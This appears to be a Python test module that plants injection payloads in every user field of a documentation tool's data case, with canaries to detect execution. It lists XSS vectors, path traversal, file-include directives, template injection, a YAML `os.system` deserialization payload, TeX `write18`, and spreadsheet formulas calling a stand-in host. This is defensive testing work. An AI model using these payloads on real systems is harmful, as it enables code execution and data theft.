"""A case in which every field that a user brings holds an attack, and what is demanded of the report that it becomes.

Each attack that the case's check lets in ends in a word of its own, so that wherever a reader, a file or a program meets that word,
the attack must stand before it, whole and as text. Canaries tell whether one ran: a global name in the page, a host that nothing
may ask for, and a file of the machine whose only word may stand nowhere.
"""

import json
import re
import shutil
from pathlib import Path
from typing import NamedTuple

import cases
import scratch
import yaml

from sourcebook.check import check

SECRET = "quokkalantern"  # the only word of a file that lies outside the checkout
HOST = "hostile.invalid"
RUN = "window.pwned=1"
LONG = 10_000  # characters, more than a cell may have
TEXTS = {  # kind -> texts; § is the path of the file with the secret
    "HTML and scripts": [
        f"<script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f'<img src=x onerror="{RUN}">',
        f"<b onmouseover='{RUN}'>*bold*</b> <details open ontoggle={RUN}>",
        f"<!-- --><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f'"><script>{RUN}</script>',
        f"' onfocus={RUN} autofocus='",
        f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
        "]]><!--",
    ],
    "SVG, CSS and meta": [
        f"<svg onload={RUN}><script>{RUN}</script></svg>",
        f"<svg><use href='http://{HOST}/x.svg#a'/><image href='file://§'/></svg>",
        f"</style><style>@import url(http://{HOST}/a.css); body{{background:url(http://{HOST}/b)}}</style>",
        f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
        f"<base href=http://{HOST}/><link rel=stylesheet href=//{HOST}/x.css>",
        f"<object data=http://{HOST}/o><embed src=http://{HOST}/e><form action=http://{HOST}/f><input name=a>",
    ],
    "addresses": [
        f"[link](javascript:{RUN})",
        f"<javascript:{RUN}> [a]: javascript:{RUN}",
        f"[link](data:text/html,<script>{RUN}</script>)",
        f"[link](vbscript:{RUN}) [j](JaVaScRiPt:{RUN}) [t](java&Tab;script:{RUN})",
        f"javascript:{RUN}",
        f"![picture](http://{HOST}/p.png) ![](//{HOST}/q.png)",
        "![picture](§) [file](file://§) ![](../../../../../../../../§)",
        "..//..//..//etc/passwd ..\\..\\windows\\win.ini CON NUL.txt aux",
    ],
    "roles and directives": [
        "{download}`secret <§>` {download}`§`",
        "{raw:html}`<b>` {eval-rst}`x` {computed}`claims/finding` {case}`title` {ref}`nowhere` {cite:p}`nobody`",
        "```{include} §\n```",
        "```{literalinclude} §\n```",
        f"```{{raw}} html\n<script>{RUN}</script>\n```",
        "```{csv-table} t\n:file: §\n```",
        f"```{{csv-table}} t\n:url: http://{HOST}/t.csv\n```",
        "```{eval-rst}\n.. include:: §\n.. raw:: html\n   :file: §\n```",
        "```{image} §\n```",
        f"```{{figure}} http://{HOST}/f.png\n```",
        ":::{include} §\n:::",
        ".. include:: §",
        "`code` ``{raw}`` ```` ```",
        "(target)=\n# A heading of the cell's",
    ],
    "templates": [
        "{{ 7*7 }} {{ [].__class__.__base__.__subclasses__() }}",
        "{% raw %}{% include '§' %}{% endraw %} ${7*7} #{7*7} <%= 7*7 %>",
        "---\nmyst:\n  enable_extensions: [substitution]\n  substitutions: {a: b}\n---\n{{ a }}",
        "{finding} {0} {n_claims} %(title)s %s |sub| $PATH $(id) `id`",
    ],
    "YAML": [
        "!!python/object/apply:os.system ['id']",
        "&a [*a, *a] *b << : {a: b}",
        "NO",
        "010",
        "1_0",
        "null",
        "NA",
        "~",
        "- item: [1, 2",
        "key: value # comment",
    ],
    "TeX": [
        "\\input{§} \\immediate\\write18{id} $\\href{javascript:window.pwned=1}{x}$",
        "$$\\begin{x}\\end{x}$$ \\def\\a{\\a}\\a \\unicode{x41}",
        "100 % & # _ ^ ~ \\ } { \\verb|x|",
    ],
    "spreadsheet formulas": [
        "=HYPERLINK(\"http://hostile.invalid/\"&A1,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "=WEBSERVICE(\"http://hostile.invalid/\")",
        "＝1+1",
        "sep=;",
    ],
    "chart expressions": [
        "datum['a.b'] datum.x[0]",
        "[a][0].b\\.c",
        "{\"signal\": \"window.pwned=1\"}",
        "signal(1) + eval('window.pwned=1') ${datum.x}",
        "{\"expr\": \"warn('x')\"}",
    ],
    "marks that nobody sees": [
        "a\u202egpj.exe\u202c b\u2066c\u2069",
        "zero\u200bwidth\u200d\ufeff\u00ad join",
        "\u0130\u0131\u017f\ufb01\u1e9e e\u0301\u0323 \U0001f3aa \U000e0041",
    ],
    "marks that break a file": [
        "nul \x00 here",
        "bell \x07 escape \x1b[31m",
        "line \u2028 separator",
        "half \ud800 a letter",
        "not a letter \uffff",
    ],
    "size and depth": [
        "x" * 1_000_000,
        "<b>" * 100_000,
        ">" * 100_000,
        "*a" * 50_000,
        "[" * 50_000,
        "`" * 50_001,
        "* > " * 200 + "a",
    ],
}  # fmt: skip
KINDS = list(TEXTS)


class Attack(NamedTuple):
    """One text in one field. `text` ends in `mark`, a word that no other field has."""

    sink: str
    kind: str
    text: str
    mark: str


def attacks(secret: Path) -> list[tuple[str, str]]:
    """Kind and text of each attack."""
    return [(kind, text.replace("§", str(secret))) for kind, texts in TEXTS.items() for text in texts]


def columns() -> dict[str, list[str]]:
    """The columns of each table, as the schema has them: a new one is attacked without anyone's remembering it."""
    return {
        resource["name"]: [field["name"] for field in resource["schema"]["fields"]]
        for resource in cases.descriptor()["resources"]
    }


def _key(rows: list[dict], number: int) -> str:
    """A key of the form that the table's other keys have."""
    first = next(iter(rows[0].values()))
    if first.isdigit():
        return str(len(rows) + 1 + number)
    found = re.fullmatch(r"([A-Z])\d+", first)
    return f"{found[1]}{500 + number}" if found else f"zq{number}"


class Case:
    """The case, in a checkout of its own; `planted` are the attacks that it holds, `refused` counts those that it does not let in
    by sink and kind, and `secret` is the file that nobody may read.
    """

    def __init__(self, parent: Path):
        self.top = scratch.checkout(parent / "checkout")
        self.secret = parent / "secret.txt"
        self.secret.write_text(f"{SECRET}\n", "utf-8")
        shutil.rmtree(self.top / "data")
        self.record = cases.write(self.top / "data")
        self.columns = columns()
        self.base = {table: self.record.rows(table) for table in self.columns}
        self.planted: list[Attack] = []
        self.refused: list[tuple[str, str]] = []
        self.wrong: list[str] = []  # what was refused by a message that names no place

    def mark(self) -> str:
        return f"zq{len(self.planted) + 1:05}"

    def settings(self) -> None:
        """The book is about this case, and its title and author are attacks too."""
        path = self.top / "_config.yml"
        config = yaml.safe_load(path.read_text("utf-8"))
        config["sphinx"]["config"]["sourcebook_case"] = "data/fair"
        for key in ("title", "author"):
            config[key] = self.joined(f"_config.yml, {key}")
        path.write_text(yaml.safe_dump(config, allow_unicode=True), "utf-8")

    def joined(self, sink: str, kinds=KINDS) -> str:
        """All attacks that a line can hold, one after the other."""
        texts = []
        for kind, text in attacks(self.secret):
            if kind in kinds and kind not in ("marks that break a file", "size and depth"):
                mark = self.mark()
                texts.append(f"{' '.join(text.split())} {mark}")
                self.planted.append(Attack(sink, kind, texts[-1], mark))
        return " ".join(texts)

    def probe(self, kind: str, text: str) -> set[tuple[str, str]]:
        """Table and column of every cell that lets a text in: each cell is tried in a row of its own, all in one check."""
        places = {}
        for table, names in self.columns.items():
            rows = [*self.base[table]]
            for number, column in enumerate(names):
                row = dict(self.base[table][0]) | {names[0]: _key(self.base[table], number)}
                rows.append(row | {column: text})
                places[f"{table}.csv", len(rows) + 1 + text.count("\n")] = (table, column)
            with (self.record.folder / f"{table}.csv").open("w", encoding="utf-8", errors="surrogatepass", newline="") as file:
                cases.csv.DictWriter(file, names, lineterminator="\n").writeheader()
                cases.csv.DictWriter(file, names, lineterminator="\n").writerows(rows)
        found = check(self.record.folder)
        for table, names in self.columns.items():
            self.record.put(table, self.base[table], names)
        return found
